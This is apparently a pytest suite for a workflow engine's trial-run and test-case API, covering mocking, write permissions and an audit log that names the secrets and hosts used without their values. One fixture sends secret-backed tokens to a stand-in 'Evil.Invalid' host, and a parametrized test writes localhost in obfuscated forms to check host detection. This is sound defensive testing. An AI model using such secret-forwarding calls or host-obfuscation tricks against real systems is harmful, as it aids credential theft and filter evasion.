"""Trying workflows out over the API: what is really called, what is recorded of it, and cases."""

from __future__ import annotations

import pytest

from connectors.builtin.http import HttpConnector
from engine.errors import UserError

BOOK, BALANCE = "connector:bank:book", "connector:bank:balance"
FLOW = {"StartAt": "Look", "States": {
    "Look": {"Type": "Task", "Resource": BALANCE, "Parameters": {}, "ResultPath": "$.look", "Next": "Book"},
    "Book": {"Type": "Task", "Resource": BOOK, "Parameters": {"amount.$": "$.amount"}, "End": True},
}}


def run(api, **more):
    reply = api("POST", "/test/run", {"definition": FLOW, "input": {"amount": 5}, **more})
    assert reply.status == 200, reply.text
    return reply.json


def test_a_write_is_mocked_or_allowed_by_name(bank):
    refused = run(bank, mode="step", state="Book")
    assert (refused["status"], refused["error"]) == ("FAILED", "Automate.WriteNotAllowed")
    assert refused["unmocked_writes"] == [{"state": "Book", "resource": BOOK}]
    assert [item["status"] for item in refused["steps"]] == ["FAILED"]
    mocked = run(bank, mode="step", state="Book", mocks={"Book": {"output": {"receipt": "mock"}}})
    assert (mocked["output"], mocked["called"], bank.booked) == ({"receipt": "mock"}, [], [])
    allowed = run(bank, mode="step", state="Book", allow=[BOOK])
    assert (allowed["output"]["receipt"], allowed["called"]) == ("r-1", [{"state": "Book", "resource": BOOK}])
    assert bank.booked == [{"amount": 5}]


def test_reads_are_called_when_asked_for_as_the_action_declares(bank):
    assert run(bank, mode="step", state="Look")["error"] == "Automate.MockMissing"
    looked = run(bank, mode="up_to", state="Look", use_reads=True)
    assert (looked["output"]["look"], looked["called"]) == ({"balance": 12}, [{"state": "Look", "resource": BALANCE}])


def test_every_step_s_values_come_with_it(bank):
    answer = run(bank, mocks={"Look": {"output": 1}, "Book": {"output": 2}})
    assert (answer["status"], answer["output"]) == ("SUCCEEDED", 2)
    assert [item["id"] for item in answer["steps"]] == ["Look#1", "Book#1"]
    assert answer["values"]["Book#1"]["input"] == {"amount": 5, "look": 1}
    assert answer["values"]["Book#1"]["arguments"] == {"amount": 5}
    assert answer["edges"] == [{"from_step": "Look#1", "to_step": "Book#1"}]


def test_a_pin_stands_for_a_state(bank):
    answer = run(bank, pins={"Look": {"amount": 9}}, mocks={"Book": {"output": "ok"}})
    assert answer["values"]["Book#1"]["arguments"] == {"amount": 9}


def test_what_was_really_called_is_in_the_audit_log_and_nothing_else_is(bank):
    run(bank, mocks={"Look": {"output": 1}, "Book": {"output": 2}})
    assert bank("GET", "/audit?act=workflow.test").json["entries"] == []
    document = {"name": "pay", "definition": FLOW}
    bank("POST", "/test/run", {"document": document, "input": {"amount": 5}, "use_reads": True, "allow": [BOOK]})
    entry, = bank("GET", "/audit?act=workflow.test").json["entries"]
    after = entry["after"]
    assert (entry["subject"], entry["actor"], after["called"], after["calls"]) == (
        "workflow/pay", "ada", [BALANCE, BOOK], 2,
    )
    assert (after["secrets"], after["hosts"]) == ([], [])
    assert bank("GET", "/executions").json["executions"] == []


CALLS = {"StartAt": "Send", "States": {
    "Send": {"Type": "Task", "Resource": "connector:http:request", "Next": "Hidden", "ResultPath": None, "Parameters": {
        "url": "http://someone:in@Evil.Invalid:8443/x?next=https://not-called.invalid/", "json": "https://no.invalid",
        "bearer_token": {"$secret": "KEY"}, "headers": {"x-b": {"$secret": "OTHER"}}, "timeout_seconds": 0.2,
    }},
    "Hidden": {"Type": "Task", "Resource": "connector:http:request", "Next": "Book", "ResultPath": None,
               "Parameters": {"url": {"$secret": "PLACE"}}},
    "Book": {"Type": "Task", "Resource": BOOK, "End": True, "Parameters": {
        "key": {"$secret": "KEY"}, "amount": {"of": ["ftp://files.invalid/a", "no address"]},
    }},
}}


def test_the_audit_entry_names_secrets_hosts_and_the_definition(bank, monkeypatch):
    monkeypatch.setattr(HttpConnector, "execute", lambda *_: {"status": 200})
    bank.secrets.values.update(KEY="sk-canary-0815", OTHER="canary-other-1", PLACE="http://canary.invalid")
    reply = bank("POST", "/test/run", {"definition": CALLS, "allow": ["connector:http:request", BOOK]})
    assert reply.json["status"] == "SUCCEEDED", reply.text
    listed = bank("GET", "/audit?act=workflow.test")
    after = listed.json["entries"][0]["after"]
    assert after["secrets"] == ["KEY", "OTHER", "PLACE"]
    assert after["hosts"] == ["evil.invalid:8443", "(the secret PLACE)", "files.invalid"]
    assert (after["called"], after["calls"]) == (["connector:http:request", BOOK], 3)
    assert "canary" not in listed.text
    assert "someone" not in listed.text
    bank.publish("same", CALLS)  # what was tested can be found again by its digest
    published, = bank("GET", "/audit?act=workflow.publish").json["entries"]
    assert published["after"]["definition_digest"] == after["definition_digest"]


@pytest.mark.parametrize(("url", "named"), [
    ("http://127\u30020\u30020\u30021:8400/x", "127.0.0.1:8400"), ("http://0x7f.1:8400", "127.0.0.1:8400"),
    ("http://\u2460\u2461\u2466.1/", "127.0.0.1"), ("http://b\u00fccher.example./", "xn--bcher-kva.example"),
    ("https://Example.com:443/", "example.com"), ("http://[0::1]:8/", "[::1]:8"),
])
def test_the_audit_entry_names_the_host_that_was_called_however_it_is_written(bank, monkeypatch, url, named):
    monkeypatch.setattr(HttpConnector, "execute", lambda *_: {"status": 200})
    request = "connector:http:request"
    call = {"Type": "Task", "Resource": request, "Parameters": {"url": url}, "End": True}
    bank("POST", "/test/run", {"definition": {"StartAt": "A", "States": {"A": call}}, "allow": [request]})
    assert bank("GET", "/audit?act=workflow.test").json["entries"][0]["after"]["hosts"] == [named]


def test_a_test_that_breaks_off_after_a_call_is_recorded_too(bank, monkeypatch):
    def broken(*_, **__):
        raise UserError("it broke")

    monkeypatch.setattr("engine.testing.trial._tried", broken)
    assert bank("POST", "/test/run", {"definition": FLOW, "input": {"amount": 5}, "use_reads": True,
                                      "allow": [BOOK]}).status == 400
    entry, = bank("GET", "/audit?act=workflow.test").json["entries"]
    assert entry["after"]["called"] == [BALANCE, BOOK]


def test_a_secret_is_resolved_for_the_call_and_in_no_answer(bank):
    bank.secrets.values["KEY"] = "sk-canary-0815"
    definition = {"StartAt": "Book", "States": {"Book": {
        "Type": "Task", "Resource": BOOK, "Parameters": {"key": {"$secret": "KEY"}}, "End": True,
    }}}
    reply = bank("POST", "/test/run", {"definition": definition, "allow": [BOOK]})
    assert bank.booked == [{"key": "sk-canary-0815"}]
    assert reply.json["status"] == "SUCCEEDED"
    assert "canary" not in reply.text


@pytest.mark.parametrize(("body", "where"), [
    ({}, "definition"), ({"definition": FLOW, "document": {"name": "x", "definition": FLOW}}, "definition"),
    ({"definition": FLOW, "mode": "step"}, "state"), ({"definition": FLOW, "state": "Book"}, "state"),
    ({"definition": FLOW, "mocks": {"Book": {"output": 1, "error": "x"}}}, "mock"),
    ({"definition": FLOW, "mocks": {"Book": {}}}, "mock"),
])
def test_a_request_that_makes_no_sense_says_so(bank, body, where):
    reply = bank("POST", "/test/run", body)
    assert (reply.status, where in reply.error["message"]) == (422, True)


def test_a_state_or_a_mock_that_is_not_there(bank):
    assert bank("POST", "/test/run", {"definition": FLOW, "mode": "step", "state": "Nope"}).status == 404
    assert bank("POST", "/test/run", {"definition": FLOW, "pins": {"Nope": 1}}).status == 404
    broken = {"StartAt": "A", "States": {"A": {"Type": "Pass", "Next": "B"}}}
    assert bank("POST", "/test/run", {"definition": broken}).status == 422


def case(name, **expect):
    return {"name": name, "input": {"amount": 1}, "expect": {"status": "SUCCEEDED", **expect}, "stubs": {
        BALANCE: [{"output": 1}], BOOK: [{"output": {"receipt": "r"}}],
    }}


def test_cases_of_a_draft_and_of_a_document(bank):
    document = {"name": "pay", "definition": FLOW, "cases": [case("good"), case("bad", output=0)]}
    bank("POST", "/workflows/import", {"document": document})
    for body in ({"workflow": "pay"}, {"document": document}):
        answer = bank("POST", "/cases/run", body).json
        assert (answer["passed"], answer["failed"]) == (1, 1)
        good, bad = answer["results"]
        assert (good["passed"], good["states"]) == (True, ["Look", "Book"])
        assert bad["differences"] == [{"what": "output", "expected": 0, "actual": {"receipt": "r"}}]
    assert bank("POST", "/cases/run", {"workflow": "pay", "cases": ["good"]}).json["failed"] == 0
    assert bank("POST", "/cases/run", {"workflow": "pay", "cases": ["nope"]}).status == 404
    assert bank("POST", "/cases/run", {"workflow": "nope"}).status == 404
    assert bank("POST", "/cases/run", {}).status == 422
    assert bank.booked == []
